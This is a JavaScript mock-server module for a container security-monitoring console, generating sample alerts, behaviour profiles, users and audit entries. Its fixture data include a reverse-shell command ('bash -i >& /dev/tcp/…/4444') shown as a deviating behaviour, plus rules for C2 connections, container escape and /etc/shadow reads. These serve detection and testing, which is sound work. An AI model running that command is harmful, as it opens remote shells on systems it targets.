/**
 * Alerts, silences, profiles, users and the audit log of the mock server: the same contract, deterministic data.
 * What is done with them is kept in memory until the server ends.
 *
 * `amount` is `none`, `little` (some dozens) or `a lot` (3,000 alerts, 1,200 profiles, a tree of 10,000 nodes).
 */

const PRIORITIES = ["Emergency", "Alert", "Critical", "Error", "Warning", "Notice", "Informational", "Debug"];
const STATES = ["new", "acknowledged", "in_progress", "closed"];
const BRANCHES = ["process", "network", "file", "lineage"];
const PERMISSIONS = {
  log_reader: ["view_events"],
  viewer: ["view_events", "view", "view_system", "save_views", "own_tokens"],
  analyst: ["view_events", "view", "view_system", "save_views", "triage", "manage_profiles", "own_tokens"],
  admin: ["view_events", "view", "view_system", "save_views", "triage", "manage_profiles", "ingest", "metrics", "manage_notifications", "own_tokens", "manage_access", "read_audit"],
};
const NEEDS = [
  [/^\/api\/(alerts|silences|profiles|hbt|containers\/[^/]+\/alerts)/, "view"],
  [/^\/api\/users\/assignable/, "triage"],
  [/^\/api\/users/, "manage_access"],
  [/^\/api\/audit/, "read_audit"],
  [/^\/api\/notifications/, "manage_notifications"],
];

export const permissionsOf = (role) => PERMISSIONS[role] ?? [];

/** `hash` numbers → numbers, `hex` seeds → digits, `containers` and `newestEvent()` from the mock server. */
export function createBehaviour({ amount, role, hash, hex, containers, newestEvent }) {
  const iso = (ago) => new Date(Date.now() - ago).toISOString();
  const MINUTE = 60_000;
  const HOUR = 60 * MINUTE;

  // --- alerts
  const BEHAVIOUR = [
    { branch: "process", operation: "execve", process: "kdevtmpfsi", kind: "executable", token: "/tmp/kdevtmpfsi" },
    { branch: "file", operation: "openat", process: "sh", kind: "written_path", token: "/dev/shm/.x" },
    { branch: "network", operation: "connect", process: "sh", kind: "destination", token: "203.0.113.0/24:4444" },
  ];
  const RULES = [
    ["Drop and execute new binary in container", "Critical", "falco", (c) => `A program that is not part of the image ran in ${c.name}: /tmp/kdevtmpfsi`],
    ["Outbound connection to C2 server", "Alert", "falco", (c) => `${c.name} connected to a known command-and-control address`],
    ["Container escape attempt via release_agent", "Emergency", "falco", (c) => `Something in ${c.name} tried to leave its container through cgroup release_agent`],
    ["Write below etc", "Error", "falco", (c) => `A file below /etc was written in ${c.name}`],
    ["Package management process launched", "Error", "falco", (c) => `A package manager ran in ${c.name}`],
    ["Read sensitive file untrusted", "Warning", "falco", (c) => `An untrusted program read /etc/shadow in ${c.name}`],
    ["Behaviour never seen before", "Critical", "profile", (c) => `${c.name} opened a shell, wrote /dev/shm/.x and connected to 203.0.113.66:4444, none of which it ever did`],
    ["Behaviour never seen before", "Warning", "profile", (c) => `${c.name} read credentials it never read: /var/run/secrets/token`],
  ];
  const wanted = { none: 0, little: 34, "a lot": 3_000 }[amount];
  const alerts = Array.from({ length: wanted }, (_, index) => {
    const id = wanted - index;
    const [rule, priority, source, title] = RULES[hash(id * 7) % RULES.length];
    const container = containers[hash(id * 13) % containers.length];
    const { host, stopped: _stopped, ...reference } = container;
    const last = (index * (amount === "a lot" ? 24 : 38) + (hash(id) % 20)) * (amount === "a lot" ? 1_000 : MINUTE) + 20_000;
    const length = (hash(id + 3) % 14) * MINUTE;
    const count = source === "profile" ? 3 + (hash(id) % 9) : 1 + (hash(id + 9) % 60);
    const state = index < 3 ? "new" : ["new", "new", "acknowledged", "in_progress", "closed", "closed"][hash(id + 1) % 6];
    const newest = Math.max(1, newestEvent() - index * 5);
    return {
      id,
      source,
      rule,
      priority,
      workload: `${container.image_repository}/${container.compose_service || container.name}`,
      container: reference,
      hostname: host,
      title: title(container),
      score: source === "profile" ? 0.55 + (hash(id) % 40) / 100 : null,
      reasons: source === "profile" ? storyOf(last + length) : [],
      evidence: [...new Set([String(Math.max(1, newest - count)), String(newest)])],
      first_seen: iso(last + length),
      last_seen: iso(last),
      count,
      state,
      close_reason: state === "closed" ? ["resolved", "false_positive", "expected", "accepted"][hash(id + 2) % 4] : null,
      assignee: state === "in_progress" ? ["admin", "ada", "lin"][hash(id) % 3] : null,
      silenced_by: index % 11 === 10 ? 1 : null,
      containers: [{ id: reference.id, name: reference.name, image: reference.image, last_seen: iso(last) }],
      more_containers: false,
      teachable: source === "profile" ? BEHAVIOUR.length : 0,
      taught: 0,
      changed: iso(last),
    };
  });
  function storyOf(ago) {
    return [
      { code: "new_process", text: "`sh` was started by `node`, which never started it", time: iso(ago), weight: 0.34 },
      { code: "new_written_path", text: "`/dev/shm/.x` was written (closest known: `/dev/shm/pulse`, similarity 0.41, threshold 0.80)", time: iso(ago - 4_000), weight: 0.22 },
      { code: "new_destination", text: "connected to `203.0.113.66:4444`, a network it never spoke to", time: iso(ago - 9_000), weight: 0.31 },
      { code: "closest_known", text: "closest known: `10.42.0.0/24:5432`, similarity 0.12, threshold 0.80", time: iso(ago - 9_000), weight: 0 },
    ];
  }
  const history = new Map();
  let sequence = 10_000;
  const historyOf = (alert) => {
    if (!history.has(alert.id)) {
      const entries = [{ sequence: alert.id * 4, time: alert.first_seen, who: "", action: "raised" }];
      if (alert.count > 4) entries.push({ sequence: alert.id * 4 + 1, time: alert.last_seen, who: "", action: "escalated", priority: alert.priority });
      if (alert.state !== "new") entries.push({ sequence: alert.id * 4 + 2, time: alert.last_seen, who: "ada", action: "state", state: alert.state, ...(alert.close_reason ? { reason: alert.close_reason } : {}) });
      if (alert.assignee) entries.push({ sequence: alert.id * 4 + 3, time: alert.last_seen, who: "ada", action: "assigned", assignee: alert.assignee });
      history.set(alert.id, entries);
    }
    return history.get(alert.id);
  };
  const time = (text) => {
    const relative = /^now(?:-(\d+)([smhd]))?$/.exec(text);
    return relative ? Date.now() - (relative[1] ? Number(relative[1]) * { s: 1e3, m: 6e4, h: 36e5, d: 864e5 }[relative[2]] : 0) : Date.parse(text);
  };
  function select(search, container) {
    const words = (name) => (search.get(name) ?? "").split(",").filter(Boolean);
    const sources = words("source");
    const priorities = words("priority");
    const text = (search.get("search") ?? "").toLowerCase();
    const found = alerts.filter(
      (alert) =>
        (!container || alert.container.id === container || alert.container.name === container) &&
        (sources.length === 0 || sources.includes(alert.source)) &&
        (priorities.length === 0 || (priorities.length > 1 ? priorities.includes(alert.priority) : PRIORITIES.indexOf(alert.priority) <= PRIORITIES.indexOf(priorities[0]))) &&
        (!search.get("rule") || alert.rule === search.get("rule")) &&
        (!search.get("workload") || alert.workload === search.get("workload")) &&
        (!search.get("container") || [alert.container.id, alert.container.name].includes(search.get("container"))) &&
        (!search.get("image") || [alert.container.image, alert.container.image_repository].includes(search.get("image"))) &&
        (!search.get("namespace") || alert.container.k8s_namespace === search.get("namespace")) &&
        (!search.get("assignee") || (search.get("assignee") === "none" ? alert.assignee === null : alert.assignee === search.get("assignee"))) &&
        (search.get("silenced") === null || (search.get("silenced") === "true") === (alert.silenced_by !== null)) &&
        (!search.get("start") || Date.parse(alert.last_seen) >= time(search.get("start"))) &&
        (!text || `${alert.title} ${alert.rule} ${alert.workload} ${alert.container.name}`.toLowerCase().includes(text)),
    );
    const states = words("state").flatMap((state) => (state === "open" ? STATES.slice(0, 3) : [state]));
    const listed = found.filter((alert) => states.length === 0 || states.includes(alert.state));
    const sort = search.get("sort");
    const value = { priority: (alert) => PRIORITIES.indexOf(alert.priority), count: (alert) => -alert.count, first_seen: (alert) => -Date.parse(alert.first_seen) }[sort] ?? ((alert) => -Date.parse(alert.last_seen));
    listed.sort((a, b) => value(a) - value(b));
    const count = (key, of) => of.reduce((sums, alert) => ((sums[key(alert)] = (sums[key(alert)] ?? 0) + 1), sums), {});
    const limit = Number(search.get("limit") ?? 100);
    const from = Number(search.get("cursor") ?? 0);
    return {
      items: listed.slice(from, from + limit),
      next_cursor: from + limit < listed.length ? String(from + limit) : null,
      aggregates: {
        total: listed.length,
        by_state: { new: 0, acknowledged: 0, in_progress: 0, closed: 0, ...count((alert) => alert.state, found) },
        by_priority: { ...Object.fromEntries(PRIORITIES.map((name) => [name, 0])), ...count((alert) => alert.priority, listed) },
        by_rule: Object.entries(count((alert) => alert.rule, listed)).map(([rule, number]) => ({ rule, count: number })).sort((a, b) => b.count - a.count),
      },
    };
  }

  // --- who hears of changes
  const listeners = new Set();
  const tell = (changed) => listeners.forEach((listener) => listener(changed));
  let raised = 0;
  /** Another alert, as if it had just happened. */
  function raise() {
    if (amount === "none") return;
    raised += 1;
    const [rule, priority, source, title] = RULES[raised % RULES.length];
    const { host, stopped: _stopped, ...container } = containers[raised % containers.length];
    const alert = { ...alerts[0], id: alerts[0].id + 1, source, rule, priority, title: title(container), container, containers: [{ id: container.id, name: container.name, image: container.image, last_seen: iso(0) }], teachable: source === "profile" ? BEHAVIOUR.length : 0, taught: 0, hostname: host, score: source === "profile" ? 0.77 : null, reasons: source === "profile" ? storyOf(0) : [], first_seen: iso(0), last_seen: iso(0), changed: iso(0), count: 1, evidence: [String(newestEvent())], state: "new", close_reason: null, assignee: null, silenced_by: null };
    alerts.unshift(alert);
    tell([alert]);
  }

  const silences = amount === "none" ? [] : [
    { id: 1, matchers: [{ field: "rule", operator: "equal", value: "Package management process launched" }, { field: "container", operator: "glob", value: "ci-runner-*" }], starts: iso(5 * HOUR), ends: iso(-19 * HOUR), created_by: "ada", created: iso(5 * HOUR), comment: "The runner installs what jobs ask for", state: "active" },
    { id: 2, matchers: [{ field: "workload", operator: "equal", value: "registry.example/shop/web/web" }], starts: iso(80 * HOUR), ends: iso(76 * HOUR), created_by: "admin", created: iso(80 * HOUR), comment: "Deployment of 2.14", state: "expired" },
  ];

  // --- profiles
  const keys = amount === "none" ? [] : containers.map((container) => `${container.image_repository}/${container.compose_service || container.name}`);
  if (amount === "a lot") for (let index = 0; index < 1_190; index += 1) keys.push(`registry.example/team-${index % 40}/service-${index}/api`);
  const profiles = [...new Set(keys)].sort().map((key, index) => {
    const learning = index % 4 === 1;
    const branches = Object.fromEntries(
      BRANCHES.map((branch, number) => {
        const isLearning = learning && number !== 0;
        const progress = isLearning ? 0.2 + (hash(index * 4 + number) % 70) / 100 : 1;
        return [
          branch,
          {
            state: isLearning ? "learning" : "detecting",
            since: iso((index + 2) * 7 * HOUR),
            progress,
            reason: isLearning ? `${(6 * (1 - progress) + 1.2).toFixed(1)} % of coming events would show something new; at most 1 % is wanted` : "0.2 % of coming events would show something new, after 6 h and 48,210 events",
            events: 4_000 + (hash(index) % 90_000),
            nodes: 60 + (hash(index + number) % 220),
            deviating_nodes: 0,
            unseen_mass: isLearning ? 0.04 : 0.002,
            new_nodes_per_hour: isLearning ? 7.5 : 0.1,
          },
        ];
      }),
    );
    const deviating = index % 3 === 0 ? 1 + (hash(index) % 6) : 0;
    return {
      key,
      images: [`${key.replace(/\/[^/]*$/, "")}:${1 + (index % 4)}.2.0`],
      state: learning ? "learning" : "detecting",
      frozen: index % 7 === 4,
      progress: Math.min(...BRANCHES.map((branch) => branches[branch].progress)),
      containers: 1 + (hash(index) % 4),
      accepted: index % 5 === 2 ? 2 : 0,
      events: 20_000 + (hash(index) % 900_000),
      deviations: deviating * 3,
      nodes: 240 + (hash(index + 8) % 900),
      deviating_nodes: deviating,
      refused: 0,
      bytes: 31_000 + (hash(index) % 90_000),
      first_seen: iso(9 * 24 * HOUR),
      last_seen: iso((hash(index) % 500) * 1_000),
      branches,
    };
  });
  const profileOf = (id) => {
    const container = containers.find((one) => one.id === id || one.name === id);
    const key = container ? `${container.image_repository}/${container.compose_service || container.name}` : id;
    return profiles.find((profile) => profile.key === key);
  };
  const snapshots = [
    { time: iso(8 * 24 * HOUR), kind: "learned" },
    { time: iso(3 * 24 * HOUR), kind: "daily" },
    { time: iso(2 * 24 * HOUR), kind: "command" },
    { time: iso(24 * HOUR), kind: "daily" },
  ];
  const accepted = new Set();
  function treeOf(profile, at) {
    const seed = profile.key.length;
    const before = at ? time(at) : Infinity;
    const leaf = (name, type, number, state = "learned") => ({
      name,
      type,
      events_count: 1 + (hash(seed * 31 + number) % 9_000),
      metadata: { ...(accepted.has(name) ? { state: "accepted", accepted: { by: "admin", time: iso(0) } } : { state }), first_seen: iso((state === "deviating" ? 0.4 : 24 * (2 + (hash(number) % 7))) * HOUR), last_seen: iso((hash(number + 4) % 1_300) * 1_000), weight: 3, ...(name.includes("<") ? { wildcard: true } : {}), ...(/shadow|token|id_rsa/.test(name) ? { sensitive: true } : {}) },
      children: [],
    });
    const inner = (name, type, children) => {
      const kept = children.filter((child) => child.children.length > 0 || (child.type !== "operation" && child.type !== "process" && Date.parse(child.metadata.first_seen) <= before));
      const states = {};
      for (const child of kept) {
        if (child.metadata.states) for (const [state, number] of Object.entries(child.metadata.states)) states[state] = (states[state] ?? 0) + number;
        else states[child.metadata.state] = (states[child.metadata.state] ?? 0) + 1;
      }
      kept.sort((a, b) => b.events_count - a.events_count);
      return {
        name,
        type,
        events_count: kept.reduce((sum, child) => sum + child.events_count, 0),
        metadata: { state: states.deviating ? "deviating" : states.seen ? "seen" : "learned", first_seen: iso(9 * 24 * HOUR), last_seen: iso(30_000), weight: 9, states },
        children: kept,
      };
    };
    const files = amount === "a lot" ? 1_200 : 14;
    const learning = profile.state === "learning";
    const usual = learning ? "seen" : "learned";
    const bad = profile.deviating_nodes > 0 || !learning;
    let number = 0;
    const next = () => (number += 1);
    return inner(profile.key, "profile", [
      inner("process", "branch", [
        inner("execve", "operation", [
          inner("node", "process", [leaf("/usr/local/bin/node", "executable", next()), leaf("server.js", "word", next()), leaf("--port=<n>", "flag", next()), leaf("node", "user", next())]),
          inner("sh", "process", [leaf("/bin/sh", "executable", next()), leaf("-c", "flag", next()), leaf("test -e /run/app-<n> && exit <n>", "script", next()), ...(bad ? [leaf("bash -i >& /dev/tcp/203.0.113.66/4444", "script", next(), "deviating")] : [])]),
          ...(bad ? [inner("kdevtmpfsi", "process", [leaf("/tmp/kdevtmpfsi", "executable", next(), "deviating"), leaf("--threads=<n>", "flag", next(), "deviating")])] : []),
        ]),
      ]),
      inner("network", "branch", [
        inner("connect", "operation", [
          inner("node", "process", [leaf("10.42.0.0/24:5432", "destination", next(), usual), leaf("10.42.0.0/24:6379", "destination", next(), usual), leaf("loopback:8125", "destination", next(), usual)]),
          ...(bad ? [inner("sh", "process", [leaf("203.0.113.0/24:4444", "destination", next(), "deviating")])] : []),
        ]),
        inner("accept", "operation", [inner("node", "process", [leaf("10.42.0.0/16:8080", "origin", next(), usual)])]),
        inner("listen", "operation", [inner("node", "process", [leaf("any:8080", "listener", next(), usual)])]),
      ]),
      inner(
        "file",
        "branch",
        ["openat", "open", "rename", "unlink"].map((operation, o) =>
          inner(operation, "operation", [
            inner("node", "process", Array.from({ length: o === 0 ? files * 6 : Math.ceil(files / 2) }, (_, index) => leaf(`/app/node_modules/package-${index}/index.js`, operation === "openat" ? "path" : "written_path", next(), index % 9 === 8 ? "seen" : usual))),
            inner("sh", "process", [leaf("/proc/<n>/status", "path", next(), usual), leaf("/tmp/upload-<random>.pdf", "written_path", next(), usual), ...(bad && o === 0 ? [leaf("/etc/shadow", "path", next(), "deviating"), leaf("/dev/shm/.x", "written_path", next(), "deviating")] : [])]),
          ]),
        ),
      ),
      inner("lineage", "branch", [inner("spawn", "operation", [inner("node", "process", [leaf("sh", "child", next(), usual), ...(bad ? [leaf("bash", "child", next(), "deviating")] : [])]), inner("tini", "process", [leaf("node", "child", next(), usual)])])]),
    ]);
  }
  function leaves(tree, path = []) {
    return tree.children.flatMap((child) => (child.children.length > 0 ? leaves(child, [...path, child.name]) : [{ path: [...path, child.name], type: child.type, events_count: child.events_count, deviating: child.metadata.state === "deviating" }]));
  }

  // --- access
  const users = [
    { username: "ada", role: "analyst", scope: null, origin: "oidc", disabled: false, created: iso(40 * 24 * HOUR), last_sign_in: iso(3 * HOUR) },
    { username: "admin", role: "admin", scope: null, origin: "local", disabled: false, created: iso(90 * 24 * HOUR), last_sign_in: iso(MINUTE) },
    { username: "lin", role: "viewer", scope: { namespaces: ["shop", "checkout"], labels: ["team=shop"] }, origin: "local", disabled: false, created: iso(12 * 24 * HOUR), last_sign_in: iso(30 * HOUR) },
    { username: "old.contractor", role: "log_reader", scope: { namespaces: [], labels: ["team=batch"] }, origin: "local", disabled: true, created: iso(200 * 24 * HOUR), last_sign_in: null },
  ];
  const sessions = [
    { id: "s1", username: "admin", created: iso(2 * HOUR), last_used: iso(1_000), expires: iso(-10 * HOUR), address: "127.0.0.1", agent: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36", current: true },
    { id: "s2", username: "admin", created: iso(26 * HOUR), last_used: iso(25 * HOUR), expires: iso(-HOUR), address: "192.0.2.14", agent: "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Mobile/15E148 Safari/604.1", current: false },
    { id: "s3", username: "ada", created: iso(3 * HOUR), last_used: iso(40 * MINUTE), expires: iso(-9 * HOUR), address: "198.51.100.7", agent: "curl/8.11", current: false },
  ];
  const ACTIONS = [["session.begin", ""], ["user.create", "lin"], ["token.create", "prometheus"], ["POST /api/alerts/triage", "/api/alerts/triage"], ["session.begin", ""], ["POST /api/silences", "/api/silences"], ["user.change", "ada"], ["view.delete", "12"], ["session.revoke", "s9"]];
  const audit = Array.from({ length: { none: 2, little: 64, "a lot": 900 }[amount] }, (_, index) => {
    const [action, target] = ACTIONS[index % ACTIONS.length];
    const refused = index % 13 === 4;
    return { sequence: 900 - index, time: iso(index * 17 * MINUTE), user: refused ? "" : ["admin", "ada", "lin"][index % 3], by: refused ? "nobody" : index % 9 === 7 ? "token" : "session", token: index % 9 === 7 ? "qw_3kQ9" : "", address: "192.0.2.14", action, target, outcome: refused ? "refused" : index % 29 === 28 ? "failed" : "done", detail: refused ? "the name or the password is wrong" : "", request_id: hex(index, 16), previous: hex(index + 1, 64), hash: hex(index, 64) };
  });
  const sinks = amount === "none" ? [] : [
    { name: "on-call", type: "webhook", description: "https://chat.example/hooks/…", state: "idle", last_success: iso(9 * MINUTE), last_error: null, last_error_time: null, sent: 412, failed: 0, retried: 3, lag: 0 },
    { name: "manager", type: "alertmanager", description: "http://alertmanager-0:9093 and 1 more", state: "retrying", last_success: iso(2 * HOUR), last_error: "connection refused (os error 111)", last_error_time: iso(20_000), sent: 380, failed: 1, retried: 57, lag: 6 },
    { name: "mail", type: "smtp", description: "smtp.example:587 to security@example", state: "disabled", last_success: null, last_error: null, last_error_time: null, sent: 0, failed: 0, retried: 0, lag: 0 },
  ];

  /** True when the request was one of these. */
  function handle(call, path, search, body, send, problem) {
    const need = NEEDS.find(([pattern]) => pattern.test(path))?.[1];
    const may = permissionsOf(role);
    const isWrite = !call.startsWith("GET");
    const write = /^\/api\/profiles/.test(path) ? "manage_profiles" : /^\/api\/(alerts|silences)/.test(path) ? "triage" : need;
    if (need && (!may.includes(need) || (isWrite && !may.includes(write)))) return problem(403, "forbidden", `this needs the permission \`${isWrite ? write : need}\``), true;
    const done = (status, answer) => (send(status, answer), true);
    const parts = path.split("/").slice(2).map(decodeURIComponent);

    if (call === "GET /api/alerts") return done(200, select(search));
    if (call === "GET /api/alerts/trend") {
      const step = 300_000;
      const end = time(search.get("end") ?? "now");
      const items = [];
      for (let at = Math.floor(time(search.get("start") ?? "now-24h") / step) * step; at < end; at += step) {
        const number = amount === "none" ? 0 : Math.max(0, (hash(at / step) % 9) - 4) * (amount === "a lot" ? 40 : 1);
        const critical = hash(at / step + 1) % 5 === 0 ? Math.ceil(number / 3) : 0;
        if (number > 0) items.push({ start: new Date(at).toISOString(), by_priority: { Critical: critical, Error: hash(at) % 3 === 0 ? number : 0, Warning: number }, total: critical + number + (hash(at) % 3 === 0 ? number : 0) });
      }
      return done(200, { step_seconds: 300, items });
    }
    if (call === "GET /api/alerts/top") {
      const by = search.get("by") ?? "rule";
      const sums = new Map();
      for (const alert of alerts.slice(0, 60)) {
        const name = { rule: alert.rule, container: alert.container.name, image: alert.container.image, workload: alert.workload }[by];
        const sum = sums.get(name) ?? { name, occurrences: 0, alerts: 0, priority: "Debug" };
        sum.occurrences += alert.count * (search.get("window") === "5m" ? 1 : 3);
        sum.alerts += 1;
        if (PRIORITIES.indexOf(alert.priority) < PRIORITIES.indexOf(sum.priority)) sum.priority = alert.priority;
        sums.set(name, sum);
      }
      return done(200, { items: [...sums.values()].sort((a, b) => b.occurrences - a.occurrences).slice(0, Number(search.get("limit") ?? 10)) });
    }
    if (call === "POST /api/alerts/triage") {
      const chosen = body.ids.map((id) => alerts.find((alert) => alert.id === id));
      if (chosen.some((alert) => !alert)) return problem(404, "not_found", `there is no alert ${body.ids[chosen.indexOf(undefined)]}`), true;
      const { action } = body;
      const wrong = chosen.find((alert) => (action === "reopen" ? alert.state !== "closed" : ["acknowledge", "unacknowledge", "start"].includes(action) && alert.state === "closed"));
      if (wrong) return problem(409, "conflict", action === "reopen" ? `alert ${wrong.id} is not closed` : `alert ${wrong.id} is closed; reopen it first`), true;
      for (const alert of chosen) {
        const before = historyOf(alert);
        if (action === "assign") alert.assignee = body.assignee || null;
        else if (action !== "note") {
          const taught = action === "close" && (body.teach ?? body.reason === "expected") ? alert.teachable : 0;
          Object.assign(alert, { untaught: action === "reopen" ? alert.taught : 0, taught });
          alert.state = { acknowledge: "acknowledged", unacknowledge: "new", start: "in_progress", close: "closed", reopen: "new" }[action];
          alert.close_reason = action === "close" ? (body.reason ?? "resolved") : null;
        }
        alert.changed = iso(0);
        before.push({ sequence: (sequence += 1), time: iso(0), who: "admin", ...(action === "assign" ? { action: "assigned", assignee: alert.assignee } : action === "note" ? { action: "note", text: body.text } : { action: "state", state: alert.state, ...(alert.close_reason ? { reason: alert.close_reason } : {}), ...(alert.taught ? { taught: alert.taught } : {}), ...(alert.untaught ? { untaught: alert.untaught } : {}) }) });
      }
      setTimeout(() => tell(chosen), 300);
      return done(200, { items: chosen });
    }
    if (call.startsWith("GET /api/alerts/")) {
      const alert = alerts.find(({ id }) => id === Number(parts[1]));
      return alert ? done(200, { ...alert, history: historyOf(alert), behaviour: alert.source === "profile" ? BEHAVIOUR : [] }) : (problem(404, "not_found", `there is no alert ${parts[1]}`), true);
    }
    if (parts[0] === "containers" && parts[2] === "alerts") return done(200, select(search, parts[1]));

    if (call === "GET /api/silences") return done(200, { items: silences, next_cursor: null });
    if (call === "POST /api/silences") {
      const silence = { id: silences.length + 1, matchers: body.matchers, starts: iso(0), ends: body.ends, created_by: "admin", created: iso(0), comment: body.comment ?? "", state: "active" };
      silences.unshift(silence);
      return done(201, silence);
    }
    if (parts[0] === "silences") {
      const silence = silences.find(({ id }) => id === Number(parts[1]));
      if (silence) Object.assign(silence, { state: "expired", ends: iso(0) });
      return done(204);
    }

    if (call === "GET /api/profiles") {
      const text = (search.get("search") ?? "").toLowerCase();
      const state = search.get("state");
      const found = profiles.filter((profile) => profile.key.toLowerCase().includes(text) && (!state || (state === "frozen" ? profile.frozen : profile.state === state)));
      const from = Number(search.get("cursor") ?? 0);
      const limit = Number(search.get("limit") ?? 100);
      const count = (test) => profiles.filter(test).length;
      return done(200, {
        items: found.slice(from, from + limit),
        next_cursor: from + limit < found.length ? String(from + limit) : null,
        aggregates: { total: profiles.length, learning: count(({ state: s }) => s === "learning"), detecting: count(({ state: s }) => s === "detecting"), frozen: count(({ frozen }) => frozen) },
      });
    }
    if (call === "POST /api/profiles/import") {
      if (!body.key) return problem(400, "invalid_parameter", "this is no profile: `key` is missing"), true;
      return done(200, { ...profiles[0], snapshots });
    }
    if (parts[0] === "profiles") {
      const profile = profileOf(parts[1]);
      if (!profile) return problem(404, "not_found", `there is no profile of \`${parts[1]}\``), true;
      if (parts[2] === "learn" || parts[2] === "freeze") {
        const state = parts[2] === "learn" ? "learning" : "detecting";
        for (const branch of body.branch ? [body.branch] : BRANCHES) Object.assign(profile.branches[branch], { state, progress: state === "learning" ? 0.1 : 1, since: iso(0), reason: state === "learning" ? "learns again by command" : "learning was ended by command" });
        profile.state = Object.values(profile.branches).some((branch) => branch.state === "learning") ? "learning" : "detecting";
        profile.frozen = parts[2] === "freeze";
        return done(200, { ...profile, snapshots });
      }
      if (parts[2] === "accept") {
        const found = leaves(treeOf(profile)).filter((one) => one.deviating && body.path.every((name, index) => one.path[index] === name));
        for (const one of found) accepted.add(one.path.at(-1));
        return done(200, { accepted: found.length, profile });
      }
      if (parts[2] === "diff") {
        const own = leaves(treeOf(profile));
        const text = (one) => [...one.path, one.type].join("|");
        const other = search.get("at") ? leaves(treeOf(profile, search.get("at"))) : leaves(treeOf(profileOf(search.get("with")) ?? profile)).filter((_, index) => index % 11 !== 3);
        if (search.get("with")) other.push({ path: ["file", "open", "cat", "/etc/resolv.conf"], type: "path", events_count: 12, deviating: false });
        const [mine, theirs] = [new Set(own.map(text)), new Set(other.map(text))];
        return done(200, { added: own.filter((one) => !theirs.has(text(one))).slice(0, 1_000), removed: other.filter((one) => !mine.has(text(one))).slice(0, 1_000), common: own.filter((one) => theirs.has(text(one))).length, not_listed: 0, at: search.get("at") });
      }
      if (parts[2] === "export") return done(200, { key: profile.key, format: "quaywatch-profile" });
      return done(200, { ...profile, snapshots });
    }
    if (parts[0] === "hbt") {
      const profile = profileOf(parts[1]);
      return profile ? done(200, treeOf(profile, search.get("at"))) : (problem(404, "not_found", `there is no profile of \`${parts[1]}\``), true);
    }

    if (call === "GET /api/users/assignable") return done(200, { items: users.filter((user) => !user.disabled && ["analyst", "admin"].includes(user.role)).map(({ username, role: theirs }) => ({ username, role: theirs })), next_cursor: null });
    if (call === "GET /api/users") return done(200, { items: users, next_cursor: null });
    if (call === "POST /api/users") {
      if (users.some((user) => user.username === body.username)) return problem(409, "conflict", `a user \`${body.username}\` exists`), true;
      const user = { username: body.username, role: body.role, scope: body.scope ?? null, origin: "local", disabled: false, created: iso(0), last_sign_in: null };
      users.push(user);
      return done(201, { ...user, ...(body.password ? {} : { password: "wQ7-hound-ample-3kd9" }) });
    }
    if (parts[0] === "users") {
      const user = users.find(({ username }) => username === parts[1]);
      if (!user) return problem(404, "not_found", `there is no user \`${parts[1]}\``), true;
      if (call.startsWith("DELETE")) return users.splice(users.indexOf(user), 1), done(204);
      const { password: _password, ...change } = body;
      return done(200, Object.assign(user, change));
    }
    if (call === "GET /api/sessions") return done(200, { items: sessions.filter((session) => search.get("all") === "true" || session.username === "admin"), next_cursor: null });
    if (parts[0] === "sessions") {
      const index = sessions.findIndex(({ id }) => id === parts[1]);
      if (index >= 0) sessions.splice(index, 1);
      return done(204);
    }
    if (call === "GET /api/audit") {
      const found = audit.filter((entry) => (!search.get("user") || entry.user === search.get("user")) && (!search.get("action") || entry.action.startsWith(search.get("action"))) && (!search.get("outcome") || entry.outcome === search.get("outcome")));
      const from = Number(search.get("cursor") ?? 0);
      return done(200, { items: found.slice(from, from + 100), next_cursor: from + 100 < found.length ? String(from + 100) : null });
    }
    if (call === "GET /api/audit/verify") return done(200, { whole: true, problem: null, entries: audit.length, removed_up_to: 0, newest: 900, newest_hash: hex(0, 64) });
    if (call === "GET /api/audit/export") return done(200, audit);
    if (call === "GET /api/notifications") return done(200, { items: sinks, next_cursor: null });
    if (parts[0] === "notifications") return done(200, parts[1] === "manager" ? { ok: false, detail: "connection refused (os error 111)" } : { ok: true, detail: "200 OK" });
    return false;
  }

  return {
    handle,
    raise,
    /** What the overview says of alerts. */
    counts() {
      const loud = alerts.filter((alert) => alert.silenced_by === null);
      const of = (state) => loud.filter((alert) => alert.state === state).length;
      return {
        total: loud.length,
        by_priority: Object.fromEntries(PRIORITIES.map((name) => [name, loud.filter((alert) => alert.priority === name).length])),
        open: { new: of("new"), acknowledged: of("acknowledged"), in_progress: of("in_progress") },
        silenced: alerts.length - loud.length,
      };
    },
    /** Calls `listener` with alerts that changed; gives what ends that. */
    listen(listener) {
      listeners.add(listener);
      return () => listeners.delete(listener);
    },
  };
}
